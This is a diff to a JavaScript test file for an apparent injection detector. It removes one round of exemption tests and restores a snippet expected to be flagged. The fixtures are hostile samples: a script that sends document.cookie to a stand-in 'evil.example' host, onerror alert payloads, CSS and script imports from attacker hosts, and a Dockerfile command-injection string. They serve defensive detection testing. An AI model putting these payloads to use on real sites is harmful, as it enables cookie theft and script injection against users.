@@ -365,9 +365,7 @@ t.test('whole requests of 16 KiB adversarial runs finish (decoding, gates and si
     // (sixtieth round) its exemptions' shapes: references after `as` (each read back to its foreach, 200 characters at most), GraphQL
     // modules, Docker comments inside RUN, component blocks after a comment and inside an attribute, conversion probes, `$(pwd)`
     'foreach (x as &$v) ', ' as &$v)', "import gql from 'graphql-tag'\nconst Q = gql`query q($a: T) {\nid\n}`\n", 'RUN a \\\n# c\n', '<script\u00a0setup>\n/* x */\n', '<img alt="\n<script setup>\n', // (sixty-first round) a comment then blank lines (each line break's look for a later line was the square of their count)
-    "' --\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n", 'select a.b(1);\n', "convert(int,'a'+'b')--", '$(pwd)/',
-    // (sixty-second round) module-syntax scripts never closed: each head read, its closing tag looked for natively
-    '<script>import{', '<script setup lang="ts">export ', '<script>\nimport a from']
+    "' --\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n", 'select a.b(1);\n', "convert(int,'a'+'b')--", '$(pwd)/']
   let slowest = 0
   for (const u of units) {
     const run = u.repeat(Math.ceil(16_384 / u.length)).slice(0, 16_384)
@@ -720,8 +718,7 @@ t.test("(sixtieth round, tuned on the spent hundred-and-forty-first and -second 
     ['<script setup>\n/* x */\nconst a = 1\nfetch("//evil.example/" + document.cookie)\n</script>\n', 'xss'],
     ['FROM debian\nENV A=1 \\\n    # c\n    B=2\nRUN id\nUSER x\n;id', 'rce'],
     ['<script setup>\n/* window. */\nimport a from "b"\nwindow.location = "//evil.example"\n</script>\n', 'xss'],
-    // (sixty-second round: `<script>⏎  import 'x';⏎  alert(1)⏎</script>` no longer — a classic script opening on a static import is a
-    // SyntaxError as a whole, Chromium runs none of it; see that round's test)
+    ["<script>\n  import 'x';\n  alert(1)\n</script>\n", 'xss'],
     // (review, each ran script or fetched in Chromium)
     ['<script\u00a0setup>\n/* <img src=x onerror=alert(document.domain)> */\nconst a = 1\n</script>\n', 'xss'],
     ["<script\ufeff>\n/* <img src=x onerror=alert(1)> */\nimport 'x'\n</script>\n", 'xss'],
@@ -819,32 +816,4 @@ t.test("(sixty-first round, tuned on the spent hundred-and-forty-second, -fourth
   // extensionless import is still read (thirty-third round), and a preprocessor's from another origin
   for (const v of ["<style lang=\"scss\" scoped>\n\n  @import './internal/language-names';\n\n  .globe {\n    right: -4px;\n  }\n</style>\n", "<style lang=\"scss\" scoped>\n  @import '~kolibri-design-system/lib/styles/definitions';\n</style>\n"]) t.same(json({ snippet: v }), [], v.slice(0, 60))
   for (const v of ["<style>@import 'evil'</style>", "<style>@import'http://0r.pe/xss.css';</style>", '<style>@import url(//evil.example/x);</style>', '<style>@import "x";</style>', '<style lang="scss">@import "//evil.example/x";</style>', '<style lang="scss">@import "http://evil.example/x";</style>', "<style>@import 'x'; body{background:url(javascript:alert(1))}</style>", "<style>@import 'a';</style><img src=x onerror=alert(1)>"]) t.ok(q(v).includes('xss'), v)
-})
-
-t.test("(sixty-second round, tuned on the spent hundred-and-forty-eighth part) a classic script opening on a module's import or export never runs", async (t) => {
-  // Vue's single-file components as the spent part has them: a classic script that opens on a static import or an export is a
-  // SyntaxError as a whole in a browser, none of it runs
-  for (const v of [
-    '<script setup lang="ts">\nimport dayjs from "dayjs";\nimport { onUnmounted } from "vue";\n\ndefineProps<{\n  date: string;\n}>();\nconst time = ref("");\n</script>\n\n<template>\n  <span>{{ time }}</span>\n</template>\n',
-    '<script>\nexport default {\n  name: "Darkmode",\n  props: {\n    defaultValue: String,\n  },\n  data: function () {\n    return { isDark: null };\n  },\n};\n</script>\n',
-    '<template>\n  <QrCodeIcon />\n</template>\n\n<script lang="ts" setup>\nimport QrCodeIcon from "@heroicons/vue/24/outline/esm/QrCodeIcon";\n</script>\n',
-    '<script>import x from "y"; alert(1)</script>',
-    '<script> import{a}from"b";alert(1)</script>',
-    '<script>export default {}; alert(1)',
-    "<script>\n  import 'x';\n  alert(1)\n</script>\n",
-  ]) t.same(json({ snippet: v }), [], v.slice(0, 60))
-  // a module script, a source, a dynamic import, `import.meta`, a statement before the export, a second script or markup after the first
-  // one's close, and a closing tag inside the import's string: each still runs something
-  for (const v of [
-    '<script type="module">import x from "//evil.example/x.js"</script>',
-    '<script src="//evil.example/x.js">export default 1</script>',
-    '<script>import("//evil.example/x.js")</script>',
-    '<script>import ("//evil.example/x.js")</script>',
-    '<script>import.meta; alert(1)</script>',
-    '<script>alert(1)\nexport default {}</script>',
-    '<script>export default {}</script><script>alert(1)</script>',
-    '<script setup lang="ts">import x from "y"</script><img src=x onerror=alert(1)>',
-    '<script>import x from "</script><script>alert(1)</script>',
-    '<script setup lang="ts" onload="alert(1)">import x from "y"</script>',
-  ]) t.ok(q(v).includes('xss'), v)
 })
